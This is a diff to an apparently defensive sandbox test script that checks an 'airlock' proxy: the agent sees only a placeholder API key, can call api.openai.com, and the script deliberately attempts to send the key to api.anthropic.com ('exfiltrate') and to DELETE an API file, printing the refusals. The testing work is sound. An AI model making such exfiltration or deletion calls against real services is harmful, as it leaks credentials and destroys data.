@@ -40,3 +40,36 @@ try:
     print("agent: reached the metadata address (unexpected)")
 except OSError as e:
     print(f"agent: 169.254.169.254 refused: {e.strerror}")
+
+# HTTPS through airlock's MITM: the guest trusts the VM's CA, and holds only a placeholder
+# for the API key; the proxy swaps in the real key for api.openai.com alone.
+import json
+import urllib.error
+import urllib.request
+
+key = os.environ.get("OPENAI_API_KEY", "")
+print(f"agent: OPENAI_API_KEY in the sandbox is a placeholder: {key.startswith('AIRLOCK_PLACEHOLDER_')}")
+
+
+def call(url, method="POST", body=None):
+    data = json.dumps(body or {}).encode()
+    request = urllib.request.Request(url, data=data, method=method, headers={
+        "Authorization": f"Bearer {key}", "Content-Type": "application/json"})
+    try:
+        with urllib.request.urlopen(request, timeout=60) as response:
+            return response.status, json.loads(response.read())
+    except urllib.error.HTTPError as e:
+        return e.code, json.loads(e.read() or b"{}")
+    except OSError as e:
+        return None, {"error": str(e)}
+
+
+api = f"api.openai.com:{os.environ.get('API_PORT', '443')}"
+other = f"api.anthropic.com:{os.environ.get('API_PORT', '443')}"
+status, reply = call(f"https://{api}/v1/chat/completions",
+                     body={"model": "m", "messages": [{"role": "user", "content": task}]})
+print(f"agent: LLM answered {status}: {reply.get('choices', [{}])[0].get('message', {}).get('content', reply)}")
+status, reply = call(f"https://{other}/v1/messages", body={"exfiltrate": True})
+print(f"agent: sending the OpenAI key to api.anthropic.com: {status} {reply.get('reason')}")
+status, reply = call(f"https://{api}/v1/files/file-1", method="DELETE")
+print(f"agent: DELETE on the API: {status} {reply.get('reason')}")
